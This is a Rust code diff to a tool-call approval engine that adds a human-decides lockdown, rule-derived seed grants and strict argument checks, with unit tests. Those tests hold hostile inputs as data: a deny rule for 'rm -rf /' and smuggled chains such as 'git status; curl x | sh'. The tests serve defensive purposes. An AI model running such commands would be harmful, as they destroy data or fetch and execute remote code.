@@ -20,21 +20,32 @@
 //! `full` mode and grants); then 2–5; then the first matching allow rule →
 //! allow; then 7.
 //!
-//! An entry applies when its glob matches and it has not expired, has uses
-//! left, its `args` hold, and — for an entry seeded from an allow rule — the
-//! rules alone would not deny the call: a seed never beats a deny rule.
+//! An entry applies when its pattern matches (its exact id when
+//! `pattern: false`) and it has not expired, has uses left and its `args`
+//! hold (read strictly, as allow rules read them). In step 5 the seeds of
+//! the rules in force come first — those the session did not suppress, and
+//! only when the rules alone would not deny the call: a seed never beats a
+//! deny rule — then the session's own entries.
+//!
+//! The **lockdown** rule set (no configuration has ever compiled) stops the
+//! ladder right after step 1: every other call holds, rule `lockdown`, in
+//! every mode, whatever the grants say.
 
 use serde_json::Value;
 
-use super::args::MatchedConstraint;
+use super::args::{args_hold, failing_constraint, MatchedConstraint, Reading};
 use super::grants::{CompiledSettings, GrantArgs, GrantRef};
 use super::guard::{builtin_guard, Guard};
-use super::rules::{failing_constraint, CompiledRule, CompiledRules, RuleAction, RulePrecedence};
+use super::rules::{CompiledRule, CompiledRules, RuleAction, RulePrecedence};
 use super::trace::{Outcome, Step, TraceStep};
-use crate::settings::{Entry, GrantList, Mode};
+use crate::settings::{Entry, GrantList, GrantedBy};
+use crate::terms::Mode;
 
 /// The rule id reported for calls to the human-only surface.
 pub const HUMAN_ONLY_RULE: &str = "human_only_function";
+
+/// The rule id reported for the holds of the lockdown.
+pub const LOCKDOWN_RULE: &str = "lockdown";
 
 /// One call to decide on.
 #[derive(Debug, Clone, Copy)]
@@ -75,6 +86,8 @@ pub enum Basis<'r> {
         /// Which guard matched.
         guard: Guard<'r>,
     },
+    /// No configuration has ever compiled: a human decides every call.
+    Lockdown,
     /// This ask rule applied: a human decides.
     Ask {
         /// Its index in the `rules` array.
@@ -103,6 +116,13 @@ pub enum Basis<'r> {
         entry: &'r Entry,
         /// Its index in the list.
         slot: u32,
+    },
+    /// Mode `auto` and this seed of the rules in force applied.
+    Seed {
+        /// The seed entry (`granted_by: "seed"`).
+        entry: &'r Entry,
+        /// The index of the allow rule it comes from.
+        rule: usize,
     },
     /// This allow or deny rule decided.
     Rule {
@@ -205,6 +225,7 @@ enum PassedOver {
     Args,
     Unwritten,
     SeedUnderDeny,
+    Suppressed,
 }
 
 /// One decision in progress.
@@ -232,6 +253,15 @@ impl<'r> Ladder<'r, '_> {
             };
         }
         self.note(Step::HumanOnly, Outcome::Pass, || None);
+        if self.rules.is_lockdown() {
+            self.note(Step::Lockdown, Outcome::Hold, || {
+                Some("no configuration has compiled yet: every call waits for a human".into())
+            });
+            return Decision {
+                verdict: Verdict::Hold,
+                basis: Basis::Lockdown,
+            };
+        }
         if self.rules.precedence == RulePrecedence::DenyAskAllow {
             if let Some(decision) = self.deny_rules() {
                 return decision;
@@ -453,24 +483,26 @@ impl<'r> Ladder<'r, '_> {
             };
             any = true;
             self.note(step, Outcome::Pass, || {
-                Some(match failing_constraint(rule.args.as_deref(), args) {
-                    _ if !rule.modes.contains(mode) => format!(
-                        "{} does not apply in mode {}",
-                        describe_rule(slot, rule),
-                        mode.as_str()
-                    ),
-                    Some(c) => {
-                        let c = c.matched();
-                        format!(
-                            "{} does not apply: {} {} {} does not hold",
+                Some(
+                    match failing_constraint(rule.args.as_deref(), args, rule.reading()) {
+                        _ if !rule.modes.contains(mode) => format!(
+                            "{} does not apply in mode {}",
                             describe_rule(slot, rule),
-                            c.field,
-                            c.operator.as_str(),
-                            c.value
-                        )
-                    }
-                    None => format!("{} does not apply", describe_rule(slot, rule)),
-                })
+                            mode.as_str()
+                        ),
+                        Some(c) => {
+                            let c = c.matched();
+                            format!(
+                                "{} does not apply: {} {} {} does not hold",
+                                describe_rule(slot, rule),
+                                c.field,
+                                c.operator.as_str(),
+                                c.value
+                            )
+                        }
+                        None => format!("{} does not apply", describe_rule(slot, rule)),
+                    },
+                )
             });
         }
         match hit.and_then(|slot| Some((slot, self.rule(slot)?))) {
@@ -506,7 +538,97 @@ impl<'r> Ladder<'r, '_> {
     }
 
     /// An allow-list: the first entry in list order that applies allows.
+    /// For `always_allow`, the seeds of the rules in force come first.
     fn grants(&mut self, list: GrantList) -> Option<Decision<'r>> {
+        let tracing = self.trace.is_some();
+        let mut lines: Vec<String> = Vec::new();
+        let decision = match list {
+            GrantList::AlwaysAllow => self.seeds(&mut lines),
+            GrantList::ApprovedAlways => None,
+        }
+        .or_else(|| self.entries(list, &mut lines));
+        if tracing {
+            let step = match list {
+                GrantList::ApprovedAlways => Step::ApprovedAlways,
+                GrantList::AlwaysAllow => Step::AlwaysAllow,
+            };
+            let outcome = match decision {
+                Some(_) => Outcome::Allow,
+                None => Outcome::Pass,
+            };
+            self.note(step, outcome, || {
+                Some(if lines.is_empty() {
+                    "no entry matches".to_owned()
+                } else {
+                    lines.join("; ")
+                })
+            });
+        }
+        decision
+    }
+
+    /// The seeds of the rules in force: the first that the session did not
+    /// suppress allows — unless the rules alone deny the call, which no
+    /// seed beats (that depends on the call, not on the seed). When
+    /// tracing, each seed passed over before it, and it, go to `lines`.
+    fn seeds(&mut self, lines: &mut Vec<String>) -> Option<Decision<'r>> {
+        let rules = self.rules;
+        let settings = self.settings;
+        let fid = self.call.function_id;
+        let tracing = self.trace.is_some();
+        let suppressed = |slot: u32| {
+            rules
+                .seeds
+                .get(slot as usize)
+                .is_none_or(|seed| settings.suppresses(&seed.entry.function_id))
+        };
+        let mut passed: Vec<(u32, PassedOver)> = Vec::new();
+        let mut hit = rules.seed_table.first_match(fid, |slot| {
+            if !suppressed(slot) {
+                return true;
+            }
+            if tracing {
+                passed.push((slot, PassedOver::Suppressed));
+            }
+            false
+        });
+        // The rules' scan runs after the seed table's match, never inside
+        // it: the glob matcher's scratch buffer is one per thread.
+        if hit.is_some() && self.rules_deny() {
+            hit = None;
+            if tracing {
+                passed.clear();
+                rules.seed_table.first_match(fid, |slot| {
+                    let why = if suppressed(slot) {
+                        PassedOver::Suppressed
+                    } else {
+                        PassedOver::SeedUnderDeny
+                    };
+                    passed.push((slot, why));
+                    false
+                });
+            }
+        }
+        let seed_at = |slot: u32| rules.seeds.get(slot as usize);
+        if tracing {
+            note_passed(lines, &mut passed, hit, |slot| {
+                seed_at(slot).map(|s| describe_entry(&s.entry))
+            });
+        }
+        let seed = seed_at(hit?)?;
+        Some(Decision {
+            verdict: Verdict::Allow,
+            basis: Basis::Seed {
+                entry: &seed.entry,
+                rule: seed.rule,
+            },
+        })
+    }
+
+    /// The session's own entries of `list`: the first that applies allows.
+    /// When tracing, each entry passed over before it, and it, go to
+    /// `lines`.
+    fn entries(&mut self, list: GrantList, lines: &mut Vec<String>) -> Option<Decision<'r>> {
         let settings = self.settings;
         let entries = settings.list(list);
         let tracing = self.trace.is_some();
@@ -522,35 +644,10 @@ impl<'r> Ladder<'r, '_> {
                 }
             }
         });
-        let step = match list {
-            GrantList::ApprovedAlways => Step::ApprovedAlways,
-            GrantList::AlwaysAllow => Step::AlwaysAllow,
-        };
         if tracing {
-            passed.sort_unstable_by_key(|(slot, _)| *slot);
-            let text = |slot: u32| {
-                entries
-                    .entries
-                    .get(slot as usize)
-                    .map(describe_entry)
-                    .unwrap_or_default()
-            };
-            let before: Vec<String> = passed
-                .iter()
-                .filter(|(slot, _)| hit.is_none_or(|h| *slot < h))
-                .map(|&(slot, why)| format!("{} passed over: {}", text(slot), why.text()))
-                .collect();
-            match hit {
-                Some(slot) => {
-                    let mut detail = before;
-                    detail.push(format!("{} applies", text(slot)));
-                    self.note(step, Outcome::Allow, || Some(detail.join("; ")));
-                }
-                None if before.is_empty() => {
-                    self.note(step, Outcome::Pass, || Some("no entry matches".into()));
-                }
-                None => self.note(step, Outcome::Pass, || Some(before.join("; "))),
-            }
+            note_passed(lines, &mut passed, hit, |slot| {
+                entries.entries.get(slot as usize).map(describe_entry)
+            });
         }
         let slot = hit?;
         let entry = entries.entries.get(slot as usize)?;
@@ -580,7 +677,7 @@ impl<'r> Ladder<'r, '_> {
         let args_hold = match &bounds.args {
             GrantArgs::Any => true,
             GrantArgs::All(constraints) => {
-                super::rules::args_hold(Some(constraints), self.call.arguments)
+                args_hold(Some(constraints), self.call.arguments, Reading::Strict)
             }
             GrantArgs::Invalid => false,
         };
@@ -590,10 +687,28 @@ impl<'r> Ladder<'r, '_> {
         if self.passed_over.contains(&GrantRef { list, slot }) {
             return Err(PassedOver::Unwritten);
         }
-        if bounds.seed && self.rules_deny() {
-            return Err(PassedOver::SeedUnderDeny);
-        }
         Ok(())
+    }
+}
+
+/// Trace lines of one list: each entry passed over below the hit (in slot
+/// order, with why), then the hit.
+fn note_passed(
+    lines: &mut Vec<String>,
+    passed: &mut [(u32, PassedOver)],
+    hit: Option<u32>,
+    text: impl Fn(u32) -> Option<String>,
+) {
+    passed.sort_unstable_by_key(|(slot, _)| *slot);
+    for &(slot, why) in passed.iter() {
+        if hit.is_none_or(|h| slot < h) {
+            let what = text(slot).unwrap_or_default();
+            lines.push(format!("{what} passed over: {}", why.text()));
+        }
+    }
+    if let Some(slot) = hit {
+        let what = text(slot).unwrap_or_default();
+        lines.push(format!("{what} applies"));
     }
 }
 
@@ -605,6 +720,7 @@ impl PassedOver {
             PassedOver::Args => "its args do not hold",
             PassedOver::Unwritten => "its use could not be recorded",
             PassedOver::SeedUnderDeny => "a seed entry never beats a deny rule",
+            PassedOver::Suppressed => "removed from this session",
         }
     }
 }
@@ -636,8 +752,8 @@ fn describe_entry(entry: &Entry) -> String {
         bounds.push(format!("args on {}", keys.join(", ")));
     }
     let kind = match entry.granted_by {
-        crate::settings::GrantedBy::Seed => "seed entry",
-        crate::settings::GrantedBy::UserClick => "entry",
+        GrantedBy::Seed => "seed entry",
+        GrantedBy::UserClick => "entry",
     };
     if bounds.is_empty() {
         format!("{kind} {}", entry.function_id)
@@ -651,16 +767,17 @@ mod tests {
     use serde_json::json;
 
     use super::*;
-    use crate::policy::args::ConstraintOp;
     use crate::policy::rules::RuleSpec;
     use crate::policy::trace::{Outcome, Step};
-    use crate::settings::{ApprovalSettings, GrantedBy};
+    use crate::settings::ApprovalSettings;
+    use crate::terms::ConstraintOp;
 
     /// `("approved" | "always", entry id)` of a grant decision.
     fn granted<'a>(d: &Decision<'a>) -> Option<(&'static str, &'a str)> {
         match d.basis {
             Basis::ApprovedAlways { entry, .. } => Some(("approved", &entry.function_id)),
             Basis::AlwaysAllow { entry, .. } => Some(("always", &entry.function_id)),
+            Basis::Seed { entry, .. } => Some(("seed", &entry.function_id)),
             _ => None,
         }
     }
@@ -675,10 +792,9 @@ mod tests {
 
     fn settings(mode: Mode, always_allow: &[&str], approved_always: &[&str]) -> CompiledSettings {
         CompiledSettings::new(&ApprovalSettings {
-            mode,
             always_allow: entries(always_allow),
             approved_always: entries(approved_always),
-            mode_set_at: 0,
+            ..ApprovalSettings::new(mode)
         })
     }
 
@@ -807,6 +923,8 @@ mod tests {
                             Basis::Rule { .. } | Basis::NoMatch => "rules",
                             Basis::HumanOnly { .. } => "human",
                             Basis::Ask { .. } => "ask",
+                            Basis::Seed { .. } => "seed",
+                            Basis::Lockdown => "lockdown",
                         };
                         assert_eq!(
                             (d.verdict, basis),
@@ -879,10 +997,11 @@ mod tests {
             rule_hit(&decide(&manual, &rs, &call("a"))),
             (Verdict::Deny, 2)
         );
-        assert_eq!(
-            rule_hit(&decide(&auto, &rs, &call("a"))),
-            (Verdict::Allow, 1)
-        );
+        // In auto mode the rule's seed allows first.
+        assert!(matches!(
+            decide(&auto, &rs, &call("a")).basis,
+            Basis::Seed { rule: 1, .. }
+        ));
         // A full-only rule never gets to apply: full mode allows at step 2.
         assert_eq!(
             rule_hit(&decide(&manual, &rs, &call("b"))),
@@ -926,12 +1045,20 @@ mod tests {
             rule_hit(&decide(&s, &rs, &with_args("shell::exec", &empty))),
             (Verdict::Allow, 1)
         );
+        // A deny rule reads arguments that are not an object as matching;
+        // the allow rule with `args` never matches them.
         for not_object in [json!(["--force"]), json!("--force"), json!(null), json!(3)] {
             let d = decide(&s, &rs, &with_args("shell::exec", &not_object));
-            assert_eq!(rule_hit(&d), (Verdict::Deny, 2), "{not_object}");
+            assert_eq!(rule_hit(&d), (Verdict::Deny, 0), "{not_object}");
         }
         let d = decide(&s, &rs, &call("shell::exec"));
-        assert_eq!(rule_hit(&d), (Verdict::Deny, 2));
+        assert_eq!(rule_hit(&d), (Verdict::Deny, 0));
+        let allow_only = rules(json!([
+            {"function": "shell::exec", "action": "allow", "args": {}},
+            {"function": "shell::exec", "action": "deny", "rule_id": "fallback"}
+        ]));
+        let d = decide(&s, &allow_only, &call("shell::exec"));
+        assert_eq!(rule_hit(&d), (Verdict::Deny, 1));
         let Basis::Rule { constraint, .. } = d.basis else {
             panic!("rule basis")
         };
@@ -1073,10 +1200,9 @@ mod tests {
         approved_always: Vec<Entry>,
     ) -> CompiledSettings {
         CompiledSettings::new(&ApprovalSettings {
-            mode,
             always_allow,
             approved_always,
-            mode_set_at: 0,
+            ..ApprovalSettings::new(mode)
         })
     }
 
@@ -1190,32 +1316,218 @@ mod tests {
 
     #[test]
     fn a_seed_entry_never_beats_an_earlier_deny_rule() {
-        // The example: `!shell::rm` then an auto allow of shell::*.
+        // `!shell::rm`, then an auto allow of shell::* (whose seed matches).
         let rs = rules(
             json!(["!shell::rm", {"function": "shell::*", "action": "allow", "modes": ["auto"]}]),
         );
-        let seed = Entry::new("shell::*", 0, GrantedBy::Seed);
-        let s = with_entries(Mode::Auto, vec![seed.clone()], vec![]);
+        let s = with_entries(Mode::Auto, vec![], vec![]);
         assert_eq!(
             rule_hit(&decide(&s, &rs, &call("shell::rm"))),
             (Verdict::Deny, 0)
         );
-        assert_eq!(
-            granted(&decide(&s, &rs, &call("shell::ls"))),
-            Some(("always", "shell::*"))
-        );
-        // A human's entry still wins (a remembered decision), and a seed
-        // after a passed-over one is not reported in its place.
+        let d = decide(&s, &rs, &call("shell::ls"));
+        assert_eq!(granted(&d), Some(("seed", "shell::*")));
+        assert!(matches!(d.basis, Basis::Seed { rule: 1, .. }));
+        // A human's entry still wins (a remembered decision).
         let user = Entry::new("shell::*", 0, GrantedBy::UserClick);
-        let s = with_entries(Mode::Auto, vec![seed, user], vec![]);
+        let s = with_entries(Mode::Auto, vec![user], vec![]);
         let d = decide(&s, &rs, &call("shell::rm"));
         assert_eq!(
             d.basis,
             Basis::AlwaysAllow {
-                entry: &s.always_allow.entries[1],
-                slot: 1
+                entry: &s.always_allow.entries[0],
+                slot: 0
             }
         );
+    }
+
+    #[test]
+    fn rule_21_3_a_stored_seed_entry_is_ignored_and_a_removed_rule_takes_its_seed() {
+        // A record stored before seeds were derived, whose rule is gone.
+        let stale = Entry::new("shell::*", 0, GrantedBy::Seed);
+        let s = with_entries(Mode::Auto, vec![stale.clone()], vec![stale]);
+        let none = CompiledRules::empty();
+        let d = decide(&s, &none, &call("shell::exec"));
+        assert_eq!((d.verdict, d.basis), (Verdict::Hold, Basis::NoMatch));
+        // With the rule in force, the seed is its.
+        let rs = rules(json!([{"function": "shell::*", "action": "allow", "modes": ["auto"]}]));
+        assert_eq!(
+            granted(&decide(&s, &rs, &call("shell::exec"))),
+            Some(("seed", "shell::*"))
+        );
+        // Seeds are always_allow entries: honoured in auto mode only.
+        let manual = with_entries(Mode::Manual, vec![], vec![]);
+        assert_eq!(
+            decide(&manual, &rs, &call("shell::exec")).basis,
+            Basis::NoMatch
+        );
+    }
+
+    #[test]
+    fn rule_21_3_a_suppressed_seed_is_passed_over() {
+        let rs = rules(json!([
+            {"function": "shell::*", "action": "allow", "modes": ["auto"]},
+            {"function": "state::get", "action": "allow", "modes": ["auto"]}
+        ]));
+        let s = CompiledSettings::new(&ApprovalSettings {
+            suppressed_seeds: vec!["shell::*".into()],
+            ..ApprovalSettings::new(Mode::Auto)
+        });
+        assert_eq!(s.mode(), Mode::Auto);
+        // The rule itself still decides in auto mode; the seed does not.
+        let d = decide(&s, &rs, &call("shell::exec"));
+        assert_eq!(rule_hit(&d), (Verdict::Allow, 0));
+        assert_eq!(
+            granted(&decide(&s, &rs, &call("state::get"))),
+            Some(("seed", "state::get"))
+        );
+        let mut trace = Vec::new();
+        let options = DecideOptions {
+            trace: Some(&mut trace),
+            ..DecideOptions::default()
+        };
+        decide_with(&s, &rs, &call("shell::exec"), options);
+        assert!(
+            trace.iter().any(|t| t.step == Step::AlwaysAllow
+                && t.detail.as_deref()
+                    == Some("seed entry shell::* passed over: removed from this session")),
+            "{trace:?}"
+        );
+    }
+
+    #[test]
+    fn rule_21_2_an_exact_entry_matches_only_its_own_id() {
+        let exact = |id: &str| Entry {
+            pattern: false,
+            ..Entry::new(id, 0, GrantedBy::UserClick)
+        };
+        let s = with_entries(
+            Mode::Auto,
+            vec![exact("fs::*")],
+            vec![exact("*"), exact("shell::[ab]"), exact("{a,b")],
+        );
+        let rs = CompiledRules::empty();
+        for other in ["shell::exec", "shell::a", "a", "fs::read", "x"] {
+            assert_eq!(
+                decide(&s, &rs, &call(other)).basis,
+                Basis::NoMatch,
+                "{other}"
+            );
+        }
+        for own in ["*", "shell::[ab]", "{a,b"] {
+            assert_eq!(
+                granted(&decide(&s, &rs, &call(own))),
+                Some(("approved", own))
+            );
+        }
+        assert_eq!(
+            granted(&decide(&s, &rs, &call("fs::*"))),
+            Some(("always", "fs::*"))
+        );
+        // An entry that is a pattern (stored without the field) stays a glob.
+        let glob = with_entries(Mode::Manual, vec![], entries(&["shell::*"]));
+        assert_eq!(
+            granted(&decide(&glob, &rs, &call("shell::exec"))),
+            Some(("approved", "shell::*"))
+        );
+    }
+
+    #[test]
+    fn rule_21_1_the_lockdown_holds_every_call_but_the_human_only_surface() {
+        let lockdown = CompiledRules::lockdown();
+        let (guarded, _) = CompiledRules::lockdown().with_extra_guards(&["ops::*".to_owned()]);
+        for mode in MODES {
+            let s = settings(mode, &["*"], &["*"]);
+            for fid in ["shell::exec", "state::get", "*", "coder::run"] {
+                let d = decide(&s, &lockdown, &call(fid));
+                assert_eq!(
+                    (d.verdict, d.basis),
+                    (Verdict::Hold, Basis::Lockdown),
+                    "{fid} {mode:?}"
+                );
+                assert_eq!(d.rule_id(), Some(LOCKDOWN_RULE));
+            }
+            let d = decide(&s, &lockdown, &call("approval::resolve"));
+            assert!(matches!(d.basis, Basis::HumanOnly { .. }), "{mode:?}");
+            let d = decide(&s, &guarded, &call("ops::restart"));
+            assert!(matches!(d.basis, Basis::HumanOnly { .. }), "{mode:?}");
+        }
+        let s = settings(Mode::Full, &[], &[]);
+        let mut trace = Vec::new();
+        let options = DecideOptions {
+            trace: Some(&mut trace),
+            ..DecideOptions::default()
+        };
+        decide_with(&s, &lockdown, &call("shell::exec"), options);
+        let steps: Vec<_> = trace.iter().map(|t| (t.step, t.outcome)).collect();
+        assert_eq!(
+            steps,
+            vec![
+                (Step::HumanOnly, Outcome::Pass),
+                (Step::Lockdown, Outcome::Hold)
+            ]
+        );
+    }
+
+    #[test]
+    fn rule_21_4_a_deny_rule_on_a_command_meets_its_argv_array() {
+        let rs = rules(json!([
+            {"function": "shell::exec", "action": "deny", "args": {"command": {"matches": "rm -rf"}}},
+            "shell::exec"
+        ]));
+        let s = settings(Mode::Manual, &[], &[]);
+        let argv = json!({"command": ["rm", "-rf", "/"]});
+        assert_eq!(
+            rule_hit(&decide(&s, &rs, &with_args("shell::exec", &argv))),
+            (Verdict::Deny, 0)
+        );
+        for odd in [json!("rm -rf /"), json!(["rm", "-rf"]), json!(null)] {
+            assert_eq!(
+                rule_hit(&decide(&s, &rs, &with_args("shell::exec", &odd))),
+                (Verdict::Deny, 0),
+                "{odd}"
+            );
+        }
+        let ls = json!({"command": ["ls", "-la"]});
+        assert_eq!(
+            rule_hit(&decide(&s, &rs, &with_args("shell::exec", &ls))),
+            (Verdict::Allow, 1)
+        );
+    }
+
+    #[test]
+    fn rule_21_4_grants_read_arguments_strictly() {
+        let rs = CompiledRules::empty();
+        let s = with_entries(
+            Mode::Manual,
+            vec![],
+            vec![
+                bounded(
+                    "shell::exec",
+                    None,
+                    None,
+                    Some(json!({"cmd": {"prefix": "git status"}})),
+                ),
+                bounded("n::f", None, None, Some(json!({"n": {"equals": 1}}))),
+            ],
+        );
+        let allowed = |fid: &str, args: Value| {
+            decide(&s, &rs, &with_args(fid, &args)).verdict == Verdict::Allow
+        };
+        assert!(allowed("shell::exec", json!({"cmd": "git status --short"})));
+        assert!(allowed("shell::exec", json!({"cmd": ["git", "status"]})));
+        assert!(!allowed(
+            "shell::exec",
+            json!({"cmd": "git status; curl x | sh"})
+        ));
+        assert!(!allowed(
+            "shell::exec",
+            json!({"cmd": ["git status", "&&", "id"]})
+        ));
+        assert!(!allowed("shell::exec", json!("git status")));
+        assert!(allowed("n::f", json!({"n": 1})));
+        assert!(!allowed("n::f", json!({"n": 1.0})));
+        assert!(!allowed("n::f", json!({"n": "1"})));
     }
 
     #[test]
